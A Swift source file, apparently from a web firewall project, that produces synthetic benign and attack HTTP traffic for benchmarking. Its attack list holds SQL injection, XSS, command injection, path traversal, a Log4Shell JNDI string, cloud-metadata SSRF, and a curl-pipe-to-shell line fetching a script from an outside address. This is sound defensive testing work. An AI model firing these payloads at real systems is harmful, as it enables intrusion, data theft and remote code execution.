import MirrorGuardCore

/// Deterministic synthetic traffic for benchmarks: realistic browser and API requests, and attacks
/// written for this project (no third-party payload lists).
struct TrafficGenerator {
    private var state: UInt64

    init(seed: UInt64) { state = seed }

    private mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }

    private mutating func int(_ range: ClosedRange<Int>) -> Int {
        range.lowerBound + Int(next() % UInt64(range.count))
    }

    private mutating func pick<T>(_ values: [T]) -> T { values[int(0...(values.count - 1))] }

    private mutating func hex(_ count: Int) -> String {
        String((0..<count).map { _ in Array("0123456789abcdef")[int(0...15)] })
    }

    private static let userAgents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "okhttp/4.12.0", "python-requests/2.31.0",
    ]
    private static let words = ["shoes", "red dress", "laptop 15 inch", "coffee beans", "garden hose", "kids bike", "O'Neill jacket", "usb-c cable", "Müller Milch", "café crème"]
    private static let paths = ["/", "/products", "/products/", "/cart", "/checkout/address", "/blog/posts", "/account/orders", "/search", "/static/app.js", "/img/logo.png"]

    private mutating func browserHeaders(host: String) -> String {
        "Host: \(host)\r\nUser-Agent: \(pick(Self.userAgents))\r\n"
            + "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n"
            + "Accept-Language: \(pick(["en-US,en;q=0.9", "fr-FR,fr;q=0.9,en;q=0.6", "de-DE,de;q=0.8"]))\r\nAccept-Encoding: gzip, deflate, br\r\n"
            + "Referer: https://\(host)\(pick(Self.paths))\r\n"
            + "Cookie: sessionid=\(hex(32)); csrftoken=\(hex(32)); _ga=GA1.2.\(int(100000...999999)).\(int(1600000000...1700000000)); theme=dark\r\n"
            + "Connection: keep-alive\r\nX-Request-ID: \(hex(16))\r\n"
    }

    /// One benign request of the mix: 50 % browser GETs, 25 % JSON API POSTs (~1 KB), 15 % form posts, 10 % multipart uploads.
    mutating func benign() -> String {
        let host = "shop.example"
        let roll = int(0...99)
        if roll < 50 {
            let query = int(0...2) == 0 ? "" : "?q=\(pick(Self.words).replacingSpaces())&page=\(int(1...20))&sort=\(pick(["price", "-date", "relevance"]))&utm_source=newsletter&id=\(int(1...99999))"
            return "GET \(pick(Self.paths))\(query) HTTP/1.1\r\n" + browserHeaders(host: host) + "\r\n"
        }
        if roll < 75 {
            var items: [String] = []
            for number in 0..<int(4...8) {
                items.append(#"{"sku":"SKU-\#(int(1000...9999))","name":"\#(pick(Self.words))","qty":\#(int(1...5)),"price":\#(int(100...99999)).\#(int(10...99)),"tags":["sale","n\#(number)"],"gift":false}"#)
            }
            let body = #"{"customer":{"id":"\#(hex(8))-\#(hex(4))-\#(hex(4))-\#(hex(4))-\#(hex(12))","email":"user\#(int(1...9999))@example.com","name":"Jane O'Hara"},"items":[\#(items.joined(separator: ","))],"note":"Please deliver after 5pm -- ring twice","coupon":null}"#
            return "POST /api/v1/orders HTTP/1.1\r\nHost: api.\(host)\r\nUser-Agent: \(pick(Self.userAgents))\r\nAccept: application/json\r\nContent-Type: application/json\r\n"
                + "Authorization: Bearer \(hex(40))\r\nX-Request-ID: \(hex(16))\r\nContent-Length: \(body.utf8.count)\r\n\r\n" + body
        }
        if roll < 90 {
            let body = "first_name=Jane&last_name=O%27Hara&street=12+Rue+de+la+Paix&city=Paris&zip=75002&country=FR&phone=%2B33+1+23+45+67+89&email=jane%40example.com&comment=\(pick(Self.words).replacingSpaces())+please&csrfmiddlewaretoken=\(hex(32))"
            return "POST /checkout/address HTTP/1.1\r\n" + browserHeaders(host: host)
                + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: \(body.utf8.count)\r\n\r\n" + body
        }
        let boundary = "----WebKitFormBoundary\(hex(16))"
        let file = (0..<int(8...20)).map { "line \($0): name,qty,price -- \(pick(Self.words))" }.joined(separator: "\n")
        let body = "--\(boundary)\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy review of \(pick(Self.words))\r\n"
            + "--\(boundary)\r\nContent-Disposition: form-data; name=\"rating\"\r\n\r\n\(int(1...5))\r\n"
            + "--\(boundary)\r\nContent-Disposition: form-data; name=\"attachment\"; filename=\"order-\(int(1...999)).csv\"\r\nContent-Type: text/csv\r\n\r\n\(file)\r\n--\(boundary)--\r\n"
        return "POST /reviews/upload HTTP/1.1\r\n" + browserHeaders(host: host)
            + "Content-Type: multipart/form-data; boundary=\(boundary)\r\nContent-Length: \(body.utf8.count)\r\n\r\n" + body
    }

    private static let attackValues = [
        "1' OR '1'='1' -- ", "0 UNION SELECT username, password FROM users--", "1; DROP TABLE orders", "1 AND SLEEP(5)",
        "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=confirm(1)>",
        "; cat /etc/passwd", "$(curl http://203.0.113.9/x.sh|sh)", "../../../../etc/passwd", "${jndi:ldap://203.0.113.9/a}",
        "{{7*7}}", "http://169.254.169.254/latest/meta-data/",
    ]

    /// An attack request: a benign shape with one value replaced by an attack.
    mutating func attack() -> String {
        let payload = pick(Self.attackValues)
        let encoded = payload.utf8.map { byte -> String in
            let scalar = Character(Unicode.Scalar(byte))
            return (scalar.isLetter || scalar.isNumber) ? String(scalar) : "%" + String(byte, radix: 16, uppercase: true).leftPad()
        }.joined()
        if int(0...1) == 0 {
            return "GET /search?q=\(encoded)&page=1 HTTP/1.1\r\n" + browserHeaders(host: "shop.example") + "\r\n"
        }
        let body = "comment=\(encoded)&rating=5"
        return "POST /reviews HTTP/1.1\r\n" + browserHeaders(host: "shop.example")
            + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: \(body.utf8.count)\r\n\r\n" + body
    }
}

private extension String {
    func replacingSpaces() -> String { String(map { $0 == " " ? "+" : $0 }) }
    func leftPad() -> String { count < 2 ? "0" + self : self }
}
